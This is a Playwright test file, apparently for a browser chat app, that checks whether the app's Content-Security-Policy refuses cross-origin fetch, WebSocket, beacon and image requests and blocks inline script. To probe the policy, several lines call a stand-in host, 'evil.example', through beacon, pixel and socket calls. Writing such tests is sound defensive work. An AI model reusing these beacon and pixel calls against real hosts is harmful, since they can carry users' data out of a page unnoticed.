/**
 * X60–X62: the built app carries a Content-Security-Policy: scripts only from its origin,
 * `connect-src` only the app and the model hosts. A request from the page to any other origin is
 * refused by the browser (a `securitypolicyviolation` event and a rejected fetch) before it
 * reaches the network, and an inline script does not run.
 */
// Not the shared fixture: its listener counts every request *event*, and Chromium reports a
// CSP-blocked image as a request that failed with ERR_BLOCKED_BY_CSP without sending it. This
// spec's own guard counts what reached the network layer (the route) instead.
import { test, expect } from '@playwright/test';
import { reportReliability } from './helpers/reliability';

const OTHER_ORIGINS = [
  'https://evil.example/collect',
  'http://127.0.0.2:9/x',
  'https://api.openai.com/v1/chat/completions',
  'https://cdn.jsdelivr.net/npm/onnxruntime-web/dist/ort.wasm',
  'wss://evil.example/socket',
];

test('X60 X61 X62: the CSP blocks requests to other origins and inline script; model hosts are allowed by policy', async ({
  page,
  context,
}) => {
  const network: string[] = [];
  const failed: string[] = [];
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (/^https?:\/\/127\.0\.0\.1:\d+\//.test(url)) return route.fallback();
    network.push(url);
    return route.abort('blockedbyclient');
  });
  context.on('requestfailed', (r) => {
    if (!r.url().startsWith('http://127.0.0.1'))
      failed.push(`${r.url()} ${r.failure()?.errorText}`);
  });
  await page.goto('/#/chat');
  const policy = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(policy).toContain("script-src 'self'");
  expect(policy).not.toContain("'unsafe-eval'");
  expect(policy).toMatch(/connect-src 'self' https:\/\/huggingface\.co/);

  const result = await page.evaluate(async (urls) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(`${e.violatedDirective} ${e.blockedURI}`),
    );
    const outcomes: string[] = [];
    for (const url of urls) {
      if (url.startsWith('ws')) {
        try {
          const ws = new WebSocket(url);
          await new Promise((r) => {
            ws.onerror = r;
            ws.onclose = r;
            setTimeout(r, 1000);
          });
          outcomes.push(`${url}: ${ws.readyState === WebSocket.OPEN ? 'open' : 'refused'}`);
        } catch (error) {
          outcomes.push(`${url}: refused (${(error as Error).name})`);
        }
        continue;
      }
      outcomes.push(
        await fetch(url, { mode: 'no-cors' }).then(
          () => `${url}: fetched`,
          (error: unknown) => `${url}: refused (${(error as Error).name})`,
        ),
      );
    }
    const beacon = navigator.sendBeacon('https://evil.example/beacon', 'x');
    const img = new Image();
    img.src = 'https://evil.example/pixel.png';
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.head.append(script);
    await new Promise((r) => setTimeout(r, 300));
    return {
      outcomes,
      violations,
      beacon,
      inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true,
    };
  }, OTHER_ORIGINS);

  const refused = result.outcomes.filter((o) => o.includes('refused')).length;
  const reached = network.length;
  reportReliability({
    name: 'csp',
    rule: 'X60-X62',
    trials: OTHER_ORIGINS.length + 3,
    failures:
      OTHER_ORIGINS.length -
      refused +
      (result.inlineRan ? 1 : 0) +
      reached +
      (result.violations.length < OTHER_ORIGINS.length ? 1 : 0),
    lost: 0,
    details: { refused, violations: result.violations.length, reachedNetwork: reached },
  });
  expect(
    result.outcomes.every((o) => o.includes('refused')),
    result.outcomes.join('\n'),
  ).toBe(true);
  expect(
    result.violations.filter((v) => v.startsWith('connect-src')).length,
  ).toBeGreaterThanOrEqual(OTHER_ORIGINS.length);
  expect(result.violations.some((v) => v.startsWith('img-src'))).toBe(true);
  expect(result.violations.some((v) => v.startsWith('script-src'))).toBe(true);
  expect(result.inlineRan).toBe(false);
  // Nothing reached the network: the browser refused before sending (the route guard saw nothing).
  expect(network, JSON.stringify(result.violations)).toEqual([]);
  for (const f of failed) expect(f).toMatch(/csp/i);
});
